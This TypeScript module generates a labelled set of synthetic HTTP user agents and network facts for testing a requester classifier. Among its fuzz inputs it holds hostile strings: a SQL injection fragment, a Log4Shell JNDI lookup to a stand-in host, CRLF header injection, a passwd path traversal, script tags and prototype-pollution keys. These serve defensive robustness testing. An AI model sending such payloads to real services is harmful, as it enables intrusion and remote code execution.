// The labelled set: requests of every class, each with its true class. The generator first chooses the class, then makes user
// agent and network for it, so that the truth does not depend on the code under test.

import type { RequesterClass } from '../../transform/classify/requester.ts';
import { noFacts, type NetworkFacts } from '../../transform/networks/facts.ts';
import type { Tri } from '../../transform/scan/line-fields.ts';
import { randomOf, type Random } from './random.ts';
import {
  browsers,
  builders,
  ciTools,
  editors,
  httpLibraries,
  packageManagers,
  runtimes,
  type Machine,
  type Template,
} from './templates.ts';

/** Whether the owner of the user agent is a bot. `left_out`: opinions differ, so peers do not get this request. */
export type Group = 'package_manager' | 'other_client' | 'bot' | 'left_out';

export interface Labelled {
  readonly userAgent: string;
  readonly network: NetworkFacts;
  readonly freshCrawlerLists: ReadonlySet<string>;
  readonly truth: {
    readonly client: string;
    readonly requesterClass: RequesterClass;
    readonly ci: Tri;
    readonly container: Tri;
  };
  readonly group: Group;
}

const cloud: NetworkFacts = { ...noFacts, rangeId: 'aws:192.0.2.0/24', rangeType: 'cloud', networkType: 'cloud' };
const hosting: NetworkFacts = { ...noFacts, asn: 64500, networkType: 'hosting' };
const isp: NetworkFacts = { ...noFacts, asn: 64501, networkType: 'isp' };
const mobile: NetworkFacts = { ...noFacts, asn: 64502, networkType: 'mobile' };
const enterprise: NetworkFacts = { ...noFacts, asn: 64503, networkType: 'enterprise' };
const runners: NetworkFacts = { ...noFacts, rangeId: 'github:198.51.100.0/24', rangeType: 'ci' };
const anywhere = [noFacts, cloud, hosting, isp, enterprise, runners];

/** User agent of a crawler → client, class, and the list that its operator publishes. */
type Bot = readonly [template: string, client: string, list?: string];
const bots: Readonly<Partial<Record<RequesterClass, readonly Bot[]>>> = {
  mirror_proxy: [
    ['bandersnatch/# (cpython 3.12.3-final0, Linux x86_64) (aiohttp 3.9.5)', 'bandersnatch'],
    ['pulpcore/# (cpython 3.9.18-final0, Linux x86_64) (aiohttp 3.9.2)', 'pulpcore'],
    ['devpi-server/# (py3.11.2; linux)', 'devpi-server'],
    ['Nexus/#-01 (OSS; Linux; 5.10.0-32-amd64; amd64; 17.0.9)', 'nexus'],
    ['Artifactory/#', 'artifactory'],
    ['npm (verdaccio/#)', 'verdaccio'],
    ['z3c.pypimirror/#', 'z3c.pypimirror'],
    ['ProGet/#', 'proget'],
    ['Gitea/#', 'gitea'],
    ['GitLab/#', 'gitlab'],
    ['GoModuleMirror/1.0 (+https://proxy.example.org)', 'go-module-mirror'],
  ],
  update_bot: [
    [
      'dependabot-core/# excon/0.112.0 ruby/3.3.6 (x86_64-linux) (+https://github.com/dependabot/dependabot-core)',
      'dependabot',
    ],
    ['RenovateBot/# (https://github.com/renovatebot/renovate)', 'renovate'],
  ],
  security_scanner: [
    ['trivy/#', 'trivy'],
    ['osv-scanner/#', 'osv-scanner'],
    ['grype/#', 'grype'],
    ['syft/#', 'syft'],
    ['snyk-cli/#', 'snyk'],
    ['Checkmarx/#', 'checkmarx'],
    ['Libraries.io (+https://libraries.io)', 'libraries.io'],
  ],
  ai_training: [
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/#; +https://openai.com/gptbot)',
      'gptbot',
      'openai-gptbot',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/#; +claudebot@anthropic.com)',
      'claudebot',
      'anthropic-bots',
    ],
    ['CCBot/2.0 (https://commoncrawl.org/faq/)', 'ccbot', 'commoncrawl-ccbot'],
    [
      'Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)',
      'bytespider',
    ],
    ['meta-externalagent/# (+https://developers.facebook.com/docs/sharing/webmasters/crawler)', 'meta-externalagent'],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/#; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36',
      'amazonbot',
    ],
  ],
  ai_search: [
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/#; +https://openai.com/searchbot',
      'oai-searchbot',
      'openai-searchbot',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/#; +https://perplexity.ai/perplexitybot)',
      'perplexitybot',
      'perplexity-bot',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-SearchBot/#; +https://www.anthropic.com)',
      'claude-searchbot',
      'anthropic-bots',
    ],
  ],
  ai_user_fetch: [
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/#; +https://openai.com/bot',
      'chatgpt-user',
      'openai-chatgpt-user',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/#; +Claude-User@anthropic.com)',
      'claude-user',
      'anthropic-bots',
    ],
    [
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/#; +https://perplexity.ai/perplexity-user)',
      'perplexity-user',
      'perplexity-user',
    ],
  ],
  search_bot: [
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'googlebot', 'google-googlebot'],
    [
      'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.# Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
      'googlebot',
      'google-googlebot',
    ],
    ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'bingbot', 'microsoft-bingbot'],
    ['Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 'yandexbot'],
    ['DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)', 'duckduckbot', 'duckduckgo-duckduckbot'],
  ],
  other_crawler: [
    ['Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 'crawler'],
    ['Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', 'crawler'],
    ['Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)', 'crawler'],
    [
      'Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)'
        .toLowerCase()
        .replace('mozilla', 'Mozilla'),
      'crawler',
    ],
    ['facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 'crawler'],
  ],
};
const allLists = [...new Set(Object.values(bots).flatMap((entries) => entries.map(([, , list]) => list ?? '')))].filter(
  Boolean,
);
const fresh: ReadonlySet<string> = new Set(allLists);
const noLists: ReadonlySet<string> = new Set();

const managerNames = [...new Set(packageManagers.map(({ client }) => client))].filter(
  (name) => !['apt', 'ivy', 'julia', 'r'].includes(name),
);
const spoofedHeads = [
  'cargo/1.75.0',
  'pip/24.0',
  'npm/10.2.4',
  'Composer/2.7.1',
  'bundler/2.5.4',
  'Gradle/8.5',
  'Apache-Maven/3.9.6',
  'poetry/1.8.2',
  'pnpm/9.1.0',
  'uv/0.5.0',
  'Hex/2.1.1',
  'conda/24.1.0',
  'rustup/1.27.1',
  'docker/27.0.1',
];
const spoofedTails = [
  ' (research)',
  ' (my-crawler)',
  ' (compatible; +mailto:someone@example.test)',
  ' Mozilla/5.0 (X11)',
  ' {"installer":',
  ' -- test',
  ' (Linux',
  "' OR 1=1 --",
  ' ${jndi:ldap://example.test/a}',
];

function hostile(r: Random): string {
  const noise = (length: number, from: number, range: number): string =>
    Array.from({ length }, () => String.fromCharCode(from + r.below(range))).join('');
  return r.pick([
    () => noise(1 + r.below(60), 0x80, 0x500),
    () => '\u0001' + noise(r.below(40), 0, 0x20),
    () => '('.repeat(1 + r.below(3000)),
    () => '{"a":'.repeat(1 + r.below(900)),
    () => '1'.repeat(1 + r.below(6000)),
    () => `\r\nx-injected: ${r.hex(8)}`,
    () => `../../${r.hex(6)}/passwd`,
    () => `<script>${r.hex(4)}</script>`,
    () => `${r.hex(12)} ${r.hex(7)}`,
    () => ['constructor', '__proto__', 'toString', 'hasOwnProperty'][r.below(4)] + r.pick(['', '/1.0', ' x']),
  ])();
}

const tri = (value: boolean): Tri => (value ? 1 : -1);

function ofTemplate(
  r: Random,
  template: Template,
  machine: Machine,
  network: NetworkFacts,
  requesterClass: RequesterClass,
  group: Group,
): Labelled {
  return {
    userAgent: template.make(r, machine),
    network,
    freshCrawlerLists: r.chance(0.5) ? fresh : noLists,
    truth: { client: template.client, requesterClass, ci: tri(machine.ci), container: tri(machine.container) },
    group,
  };
}

const quiet: Machine = { ci: false, container: false };
const unknown = (
  userAgent: string,
  network: NetworkFacts,
  client = 'unknown',
  group: Group = 'left_out',
  lists = noLists,
): Labelled => ({
  userAgent,
  network,
  freshCrawlerLists: lists,
  truth: { client, requesterClass: 'unknown', ci: -1, container: -1 },
  group,
});

function bot(r: Random, requesterClass: RequesterClass): Labelled {
  const [template, client, list] = r.pick(bots[requesterClass]!);
  const inside = list !== undefined && r.chance(0.5);
  return {
    userAgent: template.replace('#', r.version([1, 2, 3, 6, 7])),
    network: { ...r.pick([noFacts, cloud, hosting]), crawlerLists: inside ? [list] : [] },
    // An address outside the list is valid only if the list is not fresh. Otherwise the claim is contradicted; `unknown`
    // below makes that case.
    freshCrawlerLists: list === undefined || inside ? fresh : new Set(allLists.filter((name) => name !== list)),
    truth: { client, requesterClass, ci: -1, container: -1 },
    group: requesterClass === 'mirror_proxy' ? 'left_out' : 'bot',
  };
}

/** A coding agent drives a package manager and adds its name at the end of the user agent. */
function codingAgent(r: Random): Labelled {
  const template = r.pick(
    packageManagers.filter(({ client }) => ['npm', 'pnpm', 'yarn', 'cargo', 'poetry', 'bun'].includes(client)),
  );
  const made = ofTemplate(r, template, quiet, r.pick([isp, cloud, noFacts]), 'ai_coding_agent', 'left_out');
  return {
    ...made,
    userAgent: `${made.userAgent} agent/${r.pick(['claude-code', 'codex', 'cursor', 'gemini-cli', 'opencode'])}`,
  };
}

const makers: Readonly<Record<RequesterClass, (r: Random) => Labelled>> = {
  mirror_proxy: (r) => bot(r, 'mirror_proxy'),
  update_bot: (r) => bot(r, 'update_bot'),
  security_scanner: (r) => bot(r, 'security_scanner'),
  ai_training: (r) => bot(r, 'ai_training'),
  ai_search: (r) => bot(r, 'ai_search'),
  ai_user_fetch: (r) => bot(r, 'ai_user_fetch'),
  ai_coding_agent: codingAgent,
  search_bot: (r) => bot(r, 'search_bot'),
  other_crawler: (r) => bot(r, 'other_crawler'),
  ci(r) {
    if (r.chance(0.03))
      return ofTemplate(r, r.pick(ciTools), { ci: true, container: false }, r.pick(anywhere), 'ci', 'other_client');
    const template = r.pick(packageManagers.filter(({ tellsCi }) => tellsCi));
    const earthly = template.client === 'npm' && r.chance(0.05);
    const container = earthly || (template.tellsContainer && r.chance(0.3));
    return ofTemplate(r, template, { ci: true, container }, r.pick(anywhere), 'ci', 'package_manager');
  },
  container_build(r) {
    const builder = r.chance(0.2);
    const template = r.pick(builder ? builders : packageManagers.filter(({ tellsContainer }) => tellsContainer));
    return ofTemplate(
      r,
      template,
      { ci: false, container: true },
      r.pick(anywhere),
      'container_build',
      builder ? 'other_client' : 'package_manager',
    );
  },
  automation(r) {
    const network = r.pick([cloud, hosting, runners]);
    if (r.chance(0.1))
      return {
        ...unknown(r.pick(['', '-']), network, 'none'),
        truth: { client: 'none', requesterClass: 'automation', ci: -1, container: -1 },
      };
    return ofTemplate(r, r.pick(httpLibraries), quiet, network, 'automation', 'left_out');
  },
  developer(r) {
    const templates = r.pick([packageManagers, packageManagers, editors, browsers]);
    return ofTemplate(
      r,
      r.pick(templates),
      quiet,
      r.pick([isp, mobile]),
      'developer',
      templates === packageManagers ? 'package_manager' : 'other_client',
    );
  },
  hosted(r) {
    return ofTemplate(
      r,
      r.pick(packageManagers),
      quiet,
      r.pick([cloud, hosting, runners]),
      'hosted',
      'package_manager',
    );
  },
  unknown(r) {
    const network = r.pick([noFacts, enterprise]);
    return r.pick([
      () => unknown(hostile(r), network),
      // A tool's name in a form that it never writes: the name stands, the class does not follow from it.
      () => {
        const head = r.pick(spoofedHeads);
        return unknown(head + r.pick(spoofedTails), r.pick([noFacts, cloud, isp]), head.split('/')[0].toLowerCase());
      },
      () => {
        const name = r.pick(managerNames);
        return unknown(
          `${name}/${r.version()} (${r.pick(['scraper', 'thesis work', 'internal tool'])})`,
          network,
          name,
        );
      },
      () => {
        const [template, client] = r.pick(
          Object.values(bots)
            .flat()
            .filter(([, , list]) => list !== undefined),
        );
        return unknown(
          template.replace('#', r.version([1, 2])),
          r.pick([cloud, isp, noFacts]),
          client,
          'left_out',
          fresh,
        );
      },
      () => ofTemplate(r, r.pick(packageManagers), quiet, r.pick([noFacts, enterprise]), 'unknown', 'package_manager'),
      () => ofTemplate(r, r.pick(httpLibraries), quiet, r.pick([noFacts, isp]), 'unknown', 'left_out'),
      () => ofTemplate(r, r.pick(runtimes), quiet, r.pick(anywhere), 'unknown', 'other_client'),
      () => unknown(r.pick(['', '-']), r.pick([noFacts, isp]), 'none'),
    ])();
  },
};

/** @param count at least so many requests; every class gets the same number, `unknown` three times as many */
export function labelledSet(count: number, seed: number): Labelled[] {
  const random = randomOf(seed);
  const classes = Object.keys(makers) as RequesterClass[];
  const wheel: RequesterClass[] = [...classes, 'unknown', 'unknown'];
  return Array.from({ length: Math.ceil(count / wheel.length) * wheel.length }, (_, i) =>
    makers[wheel[i % wheel.length]](random),
  );
}
